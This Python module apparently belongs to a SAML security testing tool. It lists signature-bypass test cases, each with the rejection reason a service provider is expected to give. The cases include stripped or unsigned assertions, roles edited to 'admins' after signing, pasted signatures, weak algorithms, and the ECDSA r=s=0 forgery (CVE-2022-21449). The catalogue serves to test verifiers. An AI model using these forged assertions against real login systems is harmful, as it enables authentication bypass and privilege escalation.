"""Weak algorithms, signatures that do not hold, and none at all (SAML-12, SAML-20, SAML-21)."""

from __future__ import annotations

import base64

from cryptography.hazmat.primitives.asymmetric import utils

from latchstring.attacks.outcome import Attack
from latchstring.attacks.saml import signing
from latchstring.attacks.saml.forge import (
    Build,
    Forge,
    altered,
    attack,
    attribute,
    behind_issuer,
    every,
    evil,
    signature_in,
    swap,
    unsigned,
)
from latchstring.attacks.saml.key_confusion import with_key
from latchstring.attacks.saml.scene import Scene
from latchstring.attacks.saml.signing import MORE, key_info
from latchstring.protocols.saml import names


def _pasted(forge: Forge) -> str:
    """A signature from another response to the same person, with the same ID."""
    return _in_assertion(evil(unsigned(forge.answer())), signature_in(forge.answer()))


def _in_assertion(text: str, what: str) -> str:
    at = text.index("<saml:Assertion")
    return text[:at] + behind_issuer(text[at:], what)


def _value(value: bytes) -> Build:
    """A signature that is nothing but these bytes."""
    return lambda forge: forge.forged(in_assertion=evil, value=value)


def _elliptic(value: bytes) -> Build:
    """The same where an elliptic-curve key is trusted (CVE-2022-21449)."""
    return lambda forge: forge.forged(in_assertion=evil, value=value, algorithm=names.ECDSA_SHA256)


def _flipped(tag: str) -> Build:
    """One bit of the Base64 text of `tag` is another."""

    def flip(text: str) -> str:
        start, end = text.index(f"<ds:{tag}>") + len(f"<ds:{tag}>"), text.index(f"</ds:{tag}>")
        raw = bytearray(base64.b64decode(text[start:end]))
        raw[7] ^= 1
        return text[:start] + base64.b64encode(raw).decode() + text[end:]

    return altered(flip)


def _der_form(forge: Forge) -> str:
    """An honest ECDSA signature, but as DER instead of r and s side by side (XML-DSig 6.4.3)."""

    def recode(text: str) -> str:
        start, end = text.index("<ds:SignatureValue>") + 19, text.index("</ds:SignatureValue>")
        raw = base64.b64decode(text[start:end])
        r, s = int.from_bytes(raw[:32], "big"), int.from_bytes(raw[32:], "big")
        return text[:start] + base64.b64encode(utils.encode_dss_signature(r, s)).decode() + text[end:]

    return forge.forged(pair=forge.keys["ec256"], algorithm=names.ECDSA_SHA256, edit=recode)


def _foreign_response(forge: Forge) -> str:
    """A valid assertion inside a Response that the attacker has signed with a key of their own."""
    pair = forge.keys["stranger"]
    return signing.enveloped(forge.answer(), pair, key_info=key_info(pair.certificate))


def _broken_outside(forge: Forge) -> str:
    """A valid assertion inside a signed Response that was changed."""
    return forge.answer(sign="both", after=swap("<samlp:Status>", "<samlp:Status><!-- -->\n", 1))


def _broken_inside(forge: Forge) -> str:
    """A changed assertion inside a Response that was signed with the change in it."""
    text = forge.answer(in_response=evil)
    return signing.enveloped(text, forge.party.pair)


_EDITED: dict[str, tuple[str, Build]] = {
    "edited-name": ("the NameID", altered(lambda text: evil(text))),
    "edited-attribute": ("an attribute's value", altered(swap(">staff<", ">admins<"))),
    "edited-attribute-name": ("an attribute's name", altered(attribute("saml:Attribute", "Name", "roles"))),
    "edited-format": ("the NameID's Format", altered(swap("nameid-format:unspecified", "nameid-format:persistent"))),
    "edited-blank": ("one blank", altered(swap("<saml:Subject>", "<saml:Subject> "))),
    "edited-added": (
        "one attribute more",
        altered(
            swap(
                "</saml:AttributeStatement>",
                '<saml:Attribute Name="admin"><saml:AttributeValue>1</saml:AttributeValue></saml:Attribute>'
                "</saml:AttributeStatement>",
            )
        ),
    ),
}

ATTACKS: tuple[Attack[Scene], ...] = (
    attack("rsa-sha1", "SAML-20", "RSA-SHA1", "weak_algorithm", lambda f: f.forged(algorithm=names.RSA_SHA1)),
    attack(
        "digest-sha1",
        "SAML-20",
        "a SHA-1 digest",
        "weak_algorithm",
        lambda f: f.forged(digest_algorithm=names.SHA1_DIGEST),
    ),
    attack(
        "ecdsa-sha1",
        "SAML-20",
        "ECDSA with SHA-1",
        "weak_algorithm",
        lambda f: f.forged(pair=f.keys["ec256"], algorithm=f"{MORE}ecdsa-sha1"),
        party="many",
    ),
    attack("rsa-1024", "SAML-20", "a key of 1024 bits", "weak_algorithm", lambda f: f.answer(), party="weak"),
    attack(
        "rsa-md5-where-sha1-may",
        "SAML-20",
        "RSA with MD5, where SHA-1 is allowed",
        "algorithm_not_allowed",
        lambda f: f.forged(algorithm=f"{MORE}rsa-md5"),
        party="lenient",
    ),
    attack("unsigned", "SAML-21", "no signature at all", "signature_missing", lambda f: f.answer(sign="none")),
    attack(
        "stripped",
        "SAML-21",
        "the signature taken away, the name changed",
        "signature_missing",
        altered(unsigned, evil),
    ),
    attack(
        "stripped-response",
        "SAML-21",
        "the same with a signed Response",
        "signature_missing",
        lambda f: f.answer(sign="response", after=every(unsigned, evil)),
    ),
    *(
        attack(name, "SAML-21", f"changed after signing: {tries}", "signature_invalid", build)
        for name, (tries, build) in _EDITED.items()
    ),
    attack(
        "edited-response",
        "SAML-21",
        "the assertion in a signed Response changed",
        "signature_invalid",
        lambda f: f.answer(sign="response", after=evil),
    ),
    attack("signature-pasted", "SAML-21", "the signature of another assertion", "signature_invalid", _pasted),
    attack(
        "flipped-value", "SAML-21", "one bit of the SignatureValue", "signature_invalid", _flipped("SignatureValue")
    ),
    attack("flipped-digest", "SAML-21", "one bit of the DigestValue", "signature_invalid", _flipped("DigestValue")),
    attack("value-zero", "SAML-21", "a SignatureValue of zeros", "signature_invalid", _value(bytes(256))),
    attack("value-one", "SAML-21", "the number 1", "signature_invalid", _value(bytes(255) + b"\x01")),
    attack("value-empty", "SAML-21", "an empty SignatureValue", "signature_invalid", _value(b"")),
    attack("value-long", "SAML-21", "a SignatureValue that is too long", "signature_invalid", _value(b"\x01" * 5_000)),
    attack("ecdsa-zero", "SAML-21", "r = s = 0", "signature_invalid", _elliptic(bytes(64)), party="many"),
    attack(
        "ecdsa-one",
        "SAML-21",
        "r = s = 1",
        "signature_invalid",
        _elliptic(b"\0" * 31 + b"\x01" + b"\0" * 31 + b"\x01"),
        party="many",
    ),
    attack("ecdsa-der", "SAML-21", "r and s in DER", "signature_invalid", _der_form, party="many"),
    attack(
        "ecdsa-for-rsa",
        "SAML-21",
        "ECDSA where an RSA key is trusted",
        "signature_invalid",
        with_key("ec256", algorithm=names.ECDSA_SHA256),
    ),
    attack(
        "both-response-foreign",
        "SAML-21",
        "a foreign signature around a valid one",
        "certificate_unknown",
        _foreign_response,
    ),
    attack(
        "both-response-broken", "SAML-21", "a broken signature around a valid one", "signature_invalid", _broken_outside
    ),
    attack(
        "both-assertion-broken", "SAML-21", "a valid signature around a broken one", "signature_invalid", _broken_inside
    ),
    attack(
        "response-unsigned-where-wanted",
        "SAML-21",
        "the assertion signed, where the Response must be",
        "signature_missing",
        lambda f: f.answer(),
        party="wants-response",
    ),
    attack(
        "assertion-unsigned-where-wanted",
        "SAML-21",
        "the Response signed, where the assertion must be",
        "signature_missing",
        lambda f: f.answer(sign="response"),
        party="wants-assertion",
    ),
)
